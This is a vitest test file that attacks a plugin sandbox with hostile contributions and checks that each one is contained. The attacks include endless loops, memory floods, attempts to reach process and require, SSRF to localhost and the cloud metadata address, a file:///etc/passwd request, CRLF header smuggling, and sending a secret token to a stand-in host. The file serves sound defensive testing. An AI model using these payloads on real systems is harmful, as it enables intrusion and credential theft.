import { describe, expect, test } from 'vitest';

import { contributionArena, does, healthyOutcome, secretToken } from './contribution.testing.js';

const posts = (message: string) => does('notify', `return ${message};`);

const attacks = [
  { tries: 'never ends a command', ...does('run', 'for (;;);'), ends: /^PLUGIN_CODE_OVERRAN: .*deadline/ },
  { tries: 'catches what interrupts a command', ...does('run', 'for (;;) { try { for (;;); } catch {} }'), ends: /^PLUGIN_CODE_OVERRAN: .*deadline/ },
  { tries: 'answers a command with a hundred megabytes', ...does('run', 'return { kind: "text", text: "x".repeat(1e8) };'), ends: /^PLUGIN_CODE_OVERRAN: .*(memory|oversized)/ },
  { tries: 'answers a command with a page', ...does('run', 'return { kind: "html", text: "<script>" };'), ends: /^PLUGIN_RESULT_INVALID: .*\/kind/ },
  { tries: 'answers a command with a book of rows', ...does('run', 'return { kind: "table", columns: ["a"], rows: Array(10001).fill([1]) };'), ends: /^PLUGIN_RESULT_INVALID: .*\/rows/ },
  { tries: 'answers a command with a proxy that never ends', ...does('run', 'return new Proxy({}, { ownKeys() { for (;;); } });'), ends: /^PLUGIN_CODE_OVERRAN: .*deadline/ },
  { tries: 'reaches for the process in a command', ...does('run', 'return { kind: "text", text: typeof process + typeof fetch + (() => {}).constructor("return typeof require")() };'), ends: { kind: 'text', text: 'undefinedundefinedundefined' } },
  { tries: 'is asked for a command that its code has not', asked: 'run', code: 'export const run = { other: () => 1 };', ends: /^PLUGIN_CODE_MISSING: / },
  { tries: 'never ends an export', ...does('render', 'for (;;);'), ends: /^PLUGIN_CODE_OVERRAN: .*deadline/ },
  { tries: 'exports a hundred megabytes', ...does('render', 'return "x".repeat(1e8);'), ends: /^PLUGIN_CODE_OVERRAN: .*(memory|oversized)/ },
  { tries: 'exports more than may be kept', ...does('render', 'return "x".repeat(4_000_001);'), ends: /^PLUGIN_RESULT_INVALID: / },
  { tries: 'exports what is no text', ...does('render', 'return [given.scorecard];'), ends: /^PLUGIN_RESULT_INVALID: / },
  { tries: 'exports half a letter', ...does('render', 'return "\\ud83d";'), ends: /^PLUGIN_RESULT_INVALID: .*is no text/ },
  { tries: 'changes the scorecard that it was given', ...does('render', 'given.scorecard.organisation.name = "Mine"; return "done";'), ends: 'done' },
  { tries: 'throws at an export what cannot be told', ...does('render', 'throw { get message() { throw 1; } };'), ends: /^PLUGIN_CODE_FAILED: / },
  { tries: 'never ends a message', ...does('notify', 'for (;;);'), ends: /^PLUGIN_CODE_OVERRAN: .*deadline/ },
  { tries: 'sends a hundred megabytes', ...posts('{ url: given.settings.service + "/open", body: "x".repeat(1e8) }'), ends: /^PLUGIN_CODE_OVERRAN: .*(memory|oversized)/ },
  { tries: 'sends a long body', ...posts('{ url: given.settings.service + "/open", body: "x".repeat(200_001) }'), ends: /^PLUGIN_RESULT_INVALID: .*\/0\/body/ },
  { tries: 'floods a service', ...posts('Array(11).fill({ url: given.settings.service + "/open", body: "" })'), ends: /^PLUGIN_RESULT_INVALID: / },
  { tries: 'sends to another host', ...posts('{ url: "https://stranger.example/", body: "{}" }'), ends: /^FETCH_REFUSED: .*not among the hosts/ },
  { tries: 'sends to another port of this machine', ...posts('{ url: "http://127.0.0.1:1/", body: "{}" }'), ends: /^FETCH_REFUSED: .*not among the hosts/ },
  { tries: 'sends to what a cloud tells of its machine', ...posts('{ url: "http://169.254.169.254/latest", body: "" }'), ends: /^FETCH_REFUSED: / },
  { tries: 'is redirected inward', ...posts('{ url: given.settings.service + "/inward", body: "" }'), ends: /^FETCH_REFUSED: .*not among the hosts/ },
  { tries: 'sends by another protocol', ...posts('{ url: "file:///etc/passwd", body: "" }'), ends: /^FETCH_REFUSED: .*only http and https/ },
  { tries: 'sends to no address', ...posts('{ url: "not an address", body: "" }'), ends: /^FETCH_REFUSED: / },
  { tries: 'speaks for another host', ...posts('{ url: given.settings.service + "/open", headers: { Host: "admin" }, body: "" }'), ends: /^FETCH_REFUSED: .*may not set the header "host"/ },
  { tries: 'deletes', ...posts('{ url: given.settings.service + "/open", method: "DELETE", body: "" }'), ends: /^PLUGIN_RESULT_INVALID: .*method/ },
  { tries: 'carries a secret that it does not declare', ...posts('{ url: given.settings.service + "/open", headers: { "x-a": "{secret:other}" }, body: "" }'), ends: /^PLUGIN_RESULT_INVALID: .*"other", which its notifier does not declare/ },
  { tries: 'carries a secret in its body', ...posts('{ url: given.settings.service + "/open", body: "{secret:token}" }'), ends: ['POST /open {secret:token}'] },
  { tries: 'sends its secret to another host', ...posts('{ url: "https://stranger.example/{secret:token}", body: "" }'), ends: /^FETCH_REFUSED: .*stranger\.example: / },
  { tries: 'smuggles a header', ...posts('{ url: given.settings.service + "/open", headers: { "x-a": "b\\r\\nx-c: d" }, body: "" }'), ends: /^FETCH_FAILED: / },
  { tries: 'looks for secrets in what it is given', ...posts('{ url: given.settings.service + "/open", body: JSON.stringify(Object.keys(given)) }'), ends: ['POST /open ["organisation","run","findings","settings"]'] },
] as const;

describe('A contribution that means harm', async () => {
  const arena = await contributionArena(attacks);

  test.each(attacks.map(({ tries, ends }, index) => ({ tries, ends, index })))('one that $tries can do nothing but be wrong, and a healthy plugin works as ever', async ({ ends, index }) => {
    const outcome = await arena.attack(index);

    if (ends instanceof RegExp) {
      expect(outcome).toMatch(ends);
    } else {
      expect(outcome).toEqual(ends);
    }
    expect(JSON.stringify(arena.running.list())).not.toContain(JSON.stringify(secretToken).slice(1, -1));
    expect(await arena.healthy()).toEqual(healthyOutcome);
  });

  test('a service that refuses is not asked again', async () => {
    const arena403 = await contributionArena([posts('{ url: given.settings.service + "/no", body: "" }')]);

    expect(await arena403.attack(0)).toMatch(/^FETCH_FAILED: .*answered with 403/);
    expect(arena403.requests).toHaveLength(1);
  });
});
